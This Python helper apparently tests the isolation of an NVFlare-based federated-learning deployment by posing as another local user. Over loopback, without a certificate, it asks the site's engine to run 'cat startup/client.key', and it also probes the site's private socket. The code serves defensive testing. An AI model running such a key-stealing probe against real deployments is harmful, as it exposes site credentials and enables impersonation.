"""Another user of a site's machine, who asks the site's engine for its key over the loopback.

``python -m helpers.deploy.nvflare.intruder USER PORT SITE KIT`` becomes that user before it does
anything, tries the engine's internal listener and then the site's own socket in its kit, and
prints what it was told.
"""

import os
import pwd
import sys
import time
from pathlib import Path
from typing import Any

from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.communicator import load_comm_drivers
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message
from nvflare.private.fed.utils.fed_utils import fobs_initialize

from fedlasso.deploy import bridge

SECONDS = 8.0


def make_cell(port: int, site: str) -> Any:
    """Make what pretends to be a job of the site's engine, without any certificate."""
    fobs_initialize()
    load_comm_drivers()
    return Cell(
        fqcn=f"{site}.intruder",
        root_url=None,
        secure=False,
        credentials={},
        create_internal_listener=False,
        parent_url=f"tcp://localhost:{port}",
    )


def ask_engine(cell: Any, site: str) -> str:
    """Ask the site's engine for the key."""
    cell.core_cell.start()
    end = time.monotonic() + SECONDS
    while not cell.core_cell.is_cell_connected(site):
        if time.monotonic() > end:
            return "no connection"
        time.sleep(0.05)
    reply = cell.core_cell.send_request(
        channel=CellChannel.CLIENT_MAIN,
        topic=SysCommandTopic.SHELL,
        target=site,
        request=new_cell_message({}, Message(SysCommandTopic.SHELL, "cat startup/client.key")),
        timeout=SECONDS,
    )
    return str(reply.payload.body if isinstance(reply.payload, Message) else reply.headers)


def ask_socket(folder: Path) -> str:
    """Ask the process that has the records, as the engine's job would."""
    try:
        with bridge.open_socket(folder) as line:
            line.settimeout(SECONDS)
            bridge.send(line, b"anything")
            return repr(bridge.receive(line))
    except (EOFError, OSError) as error:
        return type(error).__name__


if __name__ == "__main__":
    user = pwd.getpwnam(sys.argv[1])
    # All that is imported comes first: this user may not be able to read Python itself.
    cell = make_cell(int(sys.argv[2]), sys.argv[3])
    os.setgroups([])
    os.setgid(user.pw_gid)
    os.setuid(user.pw_uid)
    os.chdir("/")
    print("socket:", ask_socket(Path(sys.argv[4])), flush=True)
    print("engine:", ask_engine(cell, sys.argv[3]), flush=True)
    os._exit(0)
